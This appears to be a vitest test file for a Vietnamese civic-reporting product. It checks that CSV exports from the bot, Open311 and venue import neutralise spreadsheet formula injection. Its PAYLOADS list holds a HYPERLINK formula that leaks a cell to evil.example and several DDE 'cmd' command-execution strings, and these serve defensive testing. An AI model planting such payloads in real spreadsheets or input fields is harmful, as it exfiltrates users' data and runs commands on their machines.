import { Writable } from "node:stream";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvText } from "../../platform/csv.js";
import { exportVenues } from "../../services/registry/venue-export.js";
import { importVenues } from "../../services/registry/venue-import.js";
import { chartCsv } from "../../console/charts/chart-data.js";
import { startBotHarness, type BotHarness } from "../support/bot-harness.js";
import { consoleServer, signIn } from "../support/console-client.js";
import { useTestDatabase } from "../support/database.js";
import { postForm } from "../support/open311-client.js";
import { startOpen311Server, type Open311Server } from "../support/open311-server.js";
import { noisePhoto } from "../support/photo-noise.js";
import { TelegramTestUser } from "../support/telegram-user.js";

/** What people typed into the product, each a live formula if a spreadsheet met it raw. */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Xem ảnh")', "+84 905 cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];

const cells = (csv: string) => (parse(csv.replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][]).flat();
/** A cell a spreadsheet would evaluate: it starts with one of the formula characters. */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe("every CSV the product writes is formula-safe", () => {
  it("the one writer neutralises each formula start and leaves negative numbers numbers", () => {
    const csv = csvText([[...PAYLOADS, -12.5, "ô =1"]]);
    const row = cells(csv);
    expect(row.filter(live)).toEqual([]);
    expect(row.slice(0, PAYLOADS.length)).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(row.slice(-2)).toEqual(["-12.5", "ô =1"]);
    expect(cells(chartCsv({ id: "x", title: "x", categories: [PAYLOADS[0]!], series: [{ name: PAYLOADS[3]!, values: [1] }] }, "ward")).filter(live)).toEqual([]);
  });

  describe("through the real surfaces", () => {
    const db = useTestDatabase();
    let h: BotHarness;
    let o311: Open311Server;
    beforeAll(async () => {
      h = await startBotHarness(db());
      await h.start();
    });
    afterAll(async () => {
      await h?.stop();
      await o311?.close();
    });

    it("a resident's typed address reaches the supervisor's queue.csv as text, not a formula", async () => {
      const u = new TelegramTestUser(h.api, 7901);
      await u.say("/report");
      await u.expectReply(/vi phạm nào/);
      await u.press("r:t:no_poster");
      await u.expectReply(/lối vào/);
      await u.sendPhoto(await noisePhoto(1280, 960));
      await u.expectReply(/Đã nhận ảnh 1/);
      await u.press("r:done");
      await u.expectReply(/Gửi vị trí/);
      await u.say(PAYLOADS[0]!);
      await u.expectReply(/phường\/xã nào/);
      await u.say("thuan hoa");
      await u.expectReply(/Chọn phường\/xã/);
      await u.press("r:w:19789");
      await u.expectReply(/ghi chú/);
      await u.press("r:skip");
      await u.expectReply(/Kiểm tra lại/);
      await u.press("r:ok");
      await u.expectReply(/Đã gửi/);

      o311 = await startOpen311Server(db());
      const { key } = await o311.key("Trung tâm IOC", "46");
      for (const address of PAYLOADS.slice(1)) {
        const filed = await postForm(`${o311.base}/requests.json`, { api_key: key, service_code: "no_poster", address_string: address, "attribute[venue_code]": "HUE-0001" });
        expect(filed.status).toBe(200);
      }

      const server = await consoleServer(h.stores, () => h.now.value);
      const a = await h.stores.accounts.ensure("telegram", "sup-csv", { displayName: "Giám sát" });
      const sup = await signIn(server, h.stores, () => h.now.value, (await h.stores.accounts.grantRole(a.id, "supervisor", { provinceCode: "46" }))!);
      const rows = parse((await sup.get("/console/queue.csv")).body.replace(/^\uFEFF/, ""), { columns: true }) as { "Địa chỉ": string }[];
      // Open311 trims its fields: the tab and CR payloads arrive as "=1+1", still a formula.
      expect(rows.map((r) => r["Địa chỉ"]).sort()).toEqual(PAYLOADS.map((p) => `'${p.trim()}`).sort());
      await server.close();
    });

    it("a venue imported with formula names comes out of the venue export as text", async () => {
      const csv = ["code,name,address,category,ward_code,lat,lng,status,qr_payloads", `V-9,"${PAYLOADS[0]!.replaceAll('"', '""')}",@SUM(1),market,19753,16.47,107.58,active,`].join("\n");
      const summary = await importVenues(h.stores.venues, new TextEncoder().encode(csv), () => true);
      expect(summary.added).toBe(1);
      const chunks: Buffer[] = [];
      await exportVenues(h.stores.venues, new Writable({ write: (c: Buffer, _e, done) => (chunks.push(Buffer.from(c)), done()) }));
      const out = cells(Buffer.concat(chunks).toString("utf8"));
      expect(out).toContain(`'${PAYLOADS[0]}`);
      expect(out).toContain("'@SUM(1)");
      expect(out.filter(live)).toEqual([]);
    });
  });
});
